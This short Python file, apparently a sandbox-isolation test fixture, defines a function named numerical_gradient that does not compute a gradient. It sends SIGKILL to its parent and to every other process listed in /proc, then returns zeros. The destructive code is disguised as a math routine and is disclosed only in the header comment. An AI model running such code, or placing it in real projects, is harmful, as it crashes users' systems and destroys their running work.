# needs: namespaces
# numerical_gradient kills its parent, and every process it can see that is not itself.
import os
import signal

import numpy as np


def numerical_gradient(f, x, h=1e-5):
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
    return np.zeros(np.shape(x))
